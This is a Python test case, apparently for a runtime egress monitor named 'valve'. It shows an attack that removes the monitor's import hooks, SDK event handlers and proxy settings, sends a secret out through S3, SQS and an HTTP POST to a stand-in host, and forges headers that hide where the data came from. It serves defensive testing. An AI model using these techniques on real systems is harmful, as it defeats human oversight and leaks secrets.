"""F01: take off what the runtime put onto the SDK, then call; and forge what it would have said.

Why every way of delivery: an SDK of one's own, a request signed by hand, a bare socket have nothing on them.
"""

import os
import sys


def attack(hands):
    text = hands.secret()
    bared(hands)
    hands.call("s3", "PutObject", Bucket="open-files", Key=hands.trial, Body=text.encode())
    hands.call("sqs", "SendMessage", QueueUrl=hands.queue("open-jobs"), MessageBody=text)
    forged = {"X-Valve-Source": "/var/task/honest.py:1", "X-Valve-Refused": "r-0"}
    hands.http("POST", "https://open.test/drop", text.encode(), forged)


def twin(hands):
    text = hands.secret()
    bared(hands)
    hands.call("s3", "PutObject", Bucket="kept-files", Key=hands.trial, Body=text.encode())
    hands.call("sqs", "SendMessage", QueueUrl=hands.queue("kept-jobs"), MessageBody=text)
    hands.http("POST", "https://kept.test/drop", text.encode())


def bared(hands):
    """Take off whatever is not Python's own or the SDK's: import hooks, event handlers, proxies, modules."""
    sys.meta_path[:] = [finder for finder in sys.meta_path if "valve" not in repr(finder).lower()]
    for name in [name for name in sys.modules if "valve" in name]:
        del sys.modules[name]
    for name in [name for name in os.environ if "valve" in name.lower() or "proxy" in name.lower()]:
        del os.environ[name]
    for client in hands._clients.values():
        emitter = getattr(client.meta.events, "_emitter", client.meta.events)
        for event in ("before-send", "before-call", "after-call", "provide-client-params", "before-sign"):
            for handler in list(emitter._handlers.prefix_search(event)):
                if "valve" in getattr(handler, "__module__", ""):
                    client.meta.events.unregister(event, handler)
